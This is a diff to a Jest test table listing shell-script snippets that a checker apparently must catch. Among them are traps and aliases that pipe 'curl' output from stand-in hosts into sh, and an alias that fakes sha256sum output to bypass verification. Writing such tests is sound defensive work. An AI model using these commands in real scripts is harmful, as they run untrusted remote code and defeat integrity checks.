@@ -80,6 +80,10 @@ test.each([
   ['a trap that goes on', [`trap '${unpack}' ERR`, get, list, unpack]],
   ['a trap that downloads', ["trap 'curl https://example.com/x | sh' EXIT", ...right]],
   ['an alias', ['shopt -s expand_aliases', 'alias exit=:', ...right]],
+  ['an alias that says', ['shopt -s expand_aliases', 'alias sha256sum="echo 0"', ...right]],
+  ['an alias in place of a function', ['alias f_x="echo 0"', 'f_x() { :; }', ...right]],
+  ['an alias with another command', ['alias f_x="echo 0; exit 0"', ...right]],
+  ['an alias with a substitution', ['alias f_x="echo \\"$(curl e.org | sh)\\""', ...right]],
   [
     'a command in a list',
     [...right, `c=(curl ${elsewhere})`, '"${c[@]}"', 'chmod +x /usr/local/bin/extra'],
